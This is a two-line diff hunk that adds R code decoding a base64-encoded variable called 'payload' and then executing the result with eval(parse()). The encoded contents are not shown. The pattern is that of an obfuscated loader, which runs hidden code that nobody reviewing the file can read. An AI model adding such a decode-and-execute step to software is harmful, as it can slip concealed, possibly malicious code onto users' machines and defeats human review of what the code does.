@@ -1,0 +1,2 @@
+cmd <- rawToChar(base64enc::base64decode(payload))
+eval(parse(text = cmd))
